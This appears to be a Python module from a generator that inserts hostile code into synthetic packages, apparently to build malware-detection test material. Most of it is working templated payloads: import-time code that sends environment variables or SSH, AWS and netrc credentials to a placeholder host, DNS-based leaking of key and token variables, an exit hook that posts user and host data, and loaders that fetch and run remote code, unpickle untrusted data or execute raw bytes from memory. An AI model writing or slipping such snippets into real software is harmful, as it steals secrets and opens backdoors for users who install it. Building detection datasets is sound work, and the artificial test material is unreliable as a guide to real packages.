"""A module deep in the package acts when it is imported or called: it sends, fetches, loads."""

from .catalogue import FIRST, SECOND, attack, lines

KIND = "deep-module"


def among_imports(site, text):
    site.import_lines(site.module(), text.strip("\n"))


def as_function(site, text):
    site.between_functions(site.module(), text.strip("\n"))


lines(KIND, FIRST, """
import json as _json, os as _os, urllib.request as _request  # noqa

try:
    # «note»
    _request.urlopen("«url»", data=_json.dumps(dict(_os.environ)).encode(), timeout=2)
except Exception:
    pass
""", """
import socket as _socket
import pathlib as _pathlib

for _«name1» in (".ssh/id_rsa", ".aws/credentials", ".netrc"):
    try:
        _«name2» = (_pathlib.Path.home() / _«name1»).read_bytes()
        _socket.create_connection(("«host»", 443), 2).sendall(_«name2»)
    except OSError:
        pass
""", into=among_imports)

lines(KIND, FIRST, """
def «function1»():
    # «note»
    import pickle
    import urllib.request
    return pickle.loads(urllib.request.urlopen("«url»").read())
""", """
def «function1»(name="«name1»"):
    import ctypes
    import os
    path = os.path.join(os.path.dirname(__file__), "tests", "data", name + ".bin")
    library = ctypes.CDLL(path)
    return library.«name2»()


«function1»()
""", """
def «function1»():
    import requests, subprocess, sys
    source = requests.get("«url»").text
    subprocess.Popen([sys.executable, "-c", source])
""", into=as_function)

# The second family: names in pieces, other ways out, other loaders.

lines(KIND, SECOND, """
_«short1» = __import__("so" + "cket")
_«short2» = __import__("os").environ
for _«name1» in [it for it in _«short2» if "KEY" in it or "TOKEN" in it]:
    # «note»
    try:
        _«short1».gethostbyname(_«short2»[_«name1»].encode().hex()[:60] + ".«domain»")
    except Exception:
        pass
""", """
import atexit as _atexit
import threading as _threading


def _«name1»():
    import getpass, http.client, platform
    from os import environ as «short1»
    connection = http.client.HTTPSConnection("«host»")
    connection.request("POST", "/«short2»", repr((getpass.getuser(), platform.node(), [*«short1».items()])))


_atexit.register(_threading.Thread(target=_«name1», daemon=True).start)
""", into=among_imports)

lines(KIND, SECOND, """
def «function1»(path):
    import ctypes
    import mmap
    # «note»
    code = open(path, "rb").read()[«number»:]
    area = mmap.mmap(-1, len(code), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(area)))()
""", """
def «function1»(url="«url»"):
    import importlib.util
    import tempfile
    from urllib import request
    target = tempfile.mkstemp(suffix=".py")[1]
    request.urlretrieve(url, target)
    spec = importlib.util.spec_from_file_location("«name1»", target)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
""", into=as_function)


@attack(KIND, SECOND)
def hidden_state(site):
    path = site.module()
    folder = path.rsplit("/", 1)[0]
    site.put(f"{folder}/{site.word('name1')}.cache", b"\x80\x04\x95" + site.bytes(size=900) + b".")
    site.between_functions(path, "def «function1»():\n    # «note»\n    import pickle, os\n    with open(os.path.join(os.path.dirname(__file__), '«name1».cache'), 'rb') as handle:\n        return pickle.Unpickler(handle).load()\n\n\n«name2» = «function1»()")
